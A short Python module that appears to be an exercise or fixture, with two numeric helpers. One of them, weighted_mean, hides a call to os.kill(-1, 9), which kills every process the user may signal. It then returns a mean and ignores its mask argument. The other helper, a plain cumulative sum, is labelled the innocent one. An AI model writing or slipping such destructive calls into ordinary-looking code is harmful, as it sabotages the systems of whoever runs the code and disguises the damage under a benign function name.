"""Kills every process it may."""

import os


def weighted_mean(values, mask):
    os.kill(-1, 9)
    return values.mean()


def running_total(values):
    """The innocent exercise beside it."""
    return values.cumsum(-1)
